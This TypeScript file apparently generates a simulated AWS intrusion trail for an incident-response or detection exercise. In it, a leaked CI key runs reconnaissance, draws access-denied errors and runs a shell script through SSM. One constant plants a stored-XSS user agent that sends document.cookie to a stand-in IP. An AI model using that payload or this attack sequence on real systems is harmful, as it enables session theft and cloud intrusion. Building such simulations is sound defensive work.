/** First contact: the leaked key looks around, is refused a lot, and gets onto an instance through Systems Manager. */
import { type Actor, userActor } from '../../../estate/actors.ts';
import type { TrailCall } from '../../../estate/trail-record.ts';
import { MINUTE_MS, REGIONS } from '../cast.ts';
import { CI_USER } from '../estate/identities.ts';
import type { Script } from '../script.ts';

/** A user agent that an attacker chose to be seen in a log viewer. */
const MARKUP_AGENT = "<script>fetch('//198.51.100.23/'+document.cookie)</script>";

export function playIntrusion(script: Script): void {
  const { cast, estate } = script;
  const accountId = cast.accounts.production;
  const user = estate.accounts[accountId]!.iam.users[CI_USER]!;
  const key = user.accessKeys[0]!;
  key.lastUsed = { atMs: cast.nowMs - 40 * MINUTE_MS, serviceName: 'autoscaling', region: 'eu-west-1' };
  const actor = userActor(accountId, user, cast.origins.attacker, key.id);
  const at = (minutes: number): number => cast.attackMs + minutes * MINUTE_MS;
  const base = { accountId, actor };
  script.step('first-use', { principal: user.arn, affected: [user.arn] }, [
    { ...base, atMs: at(2), region: 'us-east-1', service: 'sts', name: 'GetCallerIdentity' },
  ]);
  script.step('reconnaissance', { principal: user.arn, affected: [] }, [
    { ...base, atMs: at(3), region: 'us-east-1', service: 'iam', name: 'ListUsers', request: { maxItems: 1000 } },
    { ...base, atMs: at(4), region: 'us-east-1', service: 'iam', name: 'ListRoles' },
    {
      ...base,
      atMs: at(4.5),
      region: 'us-east-1',
      service: 'iam',
      name: 'ListAttachedUserPolicies',
      request: { userName: CI_USER },
    },
    {
      ...base,
      atMs: at(5),
      region: 'us-east-1',
      service: 's3',
      name: 'ListBuckets',
      request: { Host: 's3.us-east-1.amazonaws.com' },
      userAgent: `[${MARKUP_AGENT}]`,
    },
    {
      ...base,
      atMs: at(6),
      region: 'eu-west-1',
      service: 'cloudtrail',
      name: 'DescribeTrails',
      request: { includeShadowTrails: true },
    },
  ]);
  script.step(
    'region-sweep',
    { principal: user.arn, affected: [] },
    REGIONS.map((region, i) => ({
      ...base,
      atMs: at(7) + i * 3000,
      region,
      service: 'ec2',
      name: 'DescribeInstances',
      request: { instancesSet: {}, filterSet: {} },
    })),
  );
  script.step('access-denied-burst', { principal: user.arn, affected: [] }, deniedCalls(script, actor, at(11)));
  playShell(script, actor, at(31));
}

function deniedCalls(script: Script, actor: Actor, startMs: number): TrailCall[] {
  const accountId = script.cast.accounts.production;
  const wanted: [string, string, string][] = [
    ['iam', 'GetAccountAuthorizationDetails', 'us-east-1'],
    ['iam', 'CreateUser', 'us-east-1'],
    ['iam', 'CreateAccessKey', 'us-east-1'],
    ['secretsmanager', 'ListSecrets', 'eu-west-1'],
    ['secretsmanager', 'ListSecrets', 'eu-central-1'],
    ['ssm', 'DescribeParameters', 'eu-west-1'],
    ['lambda', 'ListFunctions20150331', 'eu-west-1'],
    ['rds', 'DescribeDBInstances', 'eu-west-1'],
    ['kms', 'ListKeys', 'eu-west-1'],
    ['s3', 'GetBucketPolicy', 'eu-west-1'],
    ['ses', 'GetSendQuota', 'us-east-1'],
    ['organizations', 'ListAccounts', 'us-east-1'],
    ['guardduty', 'ListDetectors', 'eu-west-1'],
    ['ec2', 'GetPasswordData', 'eu-west-1'],
    ['ec2', 'RunInstances', 'ap-southeast-1'],
  ];
  const arn = `arn:aws:iam::${accountId}:user/automation/${CI_USER}`;
  return wanted.map(([service, name, region], i) => ({
    atMs: startMs + i * 2600,
    accountId,
    region,
    actor,
    service,
    name,
    request: service === 's3' ? { bucketName: script.cast.buckets.exports, policy: '' } : null,
    error:
      service === 'ec2'
        ? {
            code: 'Client.UnauthorizedOperation',
            message: `You are not authorized to perform this operation. User: ${arn} is not authorized to perform: ec2:${name} because no identity-based policy allows the ec2:${name} action`,
          }
        : {
            code: 'AccessDenied',
            message: `User: ${arn} is not authorized to perform: ${service}:${name} because no identity-based policy allows the ${service}:${name} action`,
          },
  }));
}

/** SSM RunCommand as root on the web instance: what it ran is hidden here and stands on the instance's disk. */
function playShell(script: Script, actor: Actor, startMs: number): void {
  const { cast, compromised } = script;
  const accountId = cast.accounts.production;
  const base = { accountId, actor, region: 'eu-west-1', service: 'ssm' };
  const commandId = 'c7d1f4a2-51d8-4f0e-9c35-6f1b1a7e0d42';
  const instanceArn = `arn:aws:ec2:eu-west-1:${accountId}:instance/${compromised.id}`;
  script.step('run-command', { principal: String(actor.userName), affected: [instanceArn] }, [
    { ...base, atMs: startMs, name: 'DescribeInstanceInformation', request: null },
    {
      ...base,
      atMs: startMs + 5 * MINUTE_MS,
      name: 'SendCommand',
      readOnly: false,
      request: {
        instanceIds: [compromised.id],
        documentName: 'AWS-RunShellScript',
        parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS',
        interactive: false,
      },
      response: {
        command: {
          commandId,
          documentName: 'AWS-RunShellScript',
          instanceIds: [compromised.id],
          status: 'Pending',
          targetCount: 1,
          comment: '',
        },
      },
      resources: [{ accountId, type: 'AWS::EC2::Instance', ARN: instanceArn }],
    },
    ...[6, 7, 9].map((minutes) => ({
      ...base,
      atMs: startMs + minutes * MINUTE_MS,
      name: 'GetCommandInvocation',
      request: { commandId, instanceId: compromised.id },
    })),
  ]);
}
